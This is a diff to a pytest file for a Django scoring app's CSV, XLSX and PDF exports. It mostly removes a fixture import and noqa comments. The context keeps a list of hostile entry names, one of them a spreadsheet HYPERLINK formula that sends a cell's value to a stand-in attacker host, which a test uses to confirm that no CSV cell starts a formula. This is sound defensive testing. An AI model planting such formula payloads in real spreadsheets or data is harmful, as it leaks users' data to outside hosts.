@@ -15,7 +15,6 @@ from scoring.exports import EXPORTERS, export_execute
 from scoring.exports.flat import write_csv, write_standings_csv, write_xlsx
 from scoring.exports.pdf import write_pdf
 from scoring.models import Export
-from tests.scoring.test_exports import _media, evening  # noqa: F401 (fixtures)
 
 pytestmark = pytest.mark.django_db
 
@@ -23,7 +22,7 @@ HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"Klick")', "+49 Kreuz", "\tT
 
 
 @pytest.fixture
-def hostile(evening):  # noqa: F811
+def hostile(evening):
     entries = list(evening.entries.order_by("number"))
     for entry, name in zip(entries, HOSTILE, strict=False):
         entry.name = name
@@ -34,7 +33,7 @@ def hostile(evening):  # noqa: F811
     return evening
 
 
-def test_the_csv_export_is_the_standings_file_and_the_zip_is_all_tables(evening):  # noqa: F811
+def test_the_csv_export_is_the_standings_file_and_the_zip_is_all_tables(evening):
     assert (EXPORTERS["csv"].extension, EXPORTERS["csv"].content_type) == ("csv", "text/csv")
     assert EXPORTERS["csv_all"].extension == "csv.zip"
     out = io.BytesIO()
@@ -48,7 +47,7 @@ def test_the_csv_export_is_the_standings_file_and_the_zip_is_all_tables(evening)
     assert [r[correction] for r in rows if r[2] == "2"] == ["-1"]
 
 
-def test_the_results_page_offers_the_standings_csv_and_all_tables(organiser_client, organiser, evening):  # noqa: F811
+def test_the_results_page_offers_the_standings_csv_and_all_tables(organiser_client, organiser, evening):
     evening.club = organiser.club
     evening.save()
     url = reverse("results:page", kwargs={"club_slug": evening.club.slug, "event_slug": evening.slug})
@@ -58,7 +57,7 @@ def test_the_results_page_offers_the_standings_csv_and_all_tables(organiser_clie
     assert export_execute(export_id=export.pk)["file"].endswith(".csv")
 
 
-def test_xlsx_columns_are_wide_enough_to_read(evening):  # noqa: F811
+def test_xlsx_columns_are_wide_enough_to_read(evening):
     out = io.BytesIO()
     write_xlsx(event_id=evening.pk, out=out)
     workbook = load_workbook(io.BytesIO(out.getvalue()))
@@ -107,7 +106,7 @@ def test_no_cell_of_any_csv_starts_a_formula(hostile):
     assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r") or (c[:1] == "-" and not c[1:].isdigit())]
 
 
-def test_the_german_pdf_names_each_outcome_in_german(evening):  # noqa: F811
+def test_the_german_pdf_names_each_outcome_in_german(evening):
     out = io.BytesIO()
     with translation.override("de"):
         write_pdf(event_id=evening.pk, out=out)
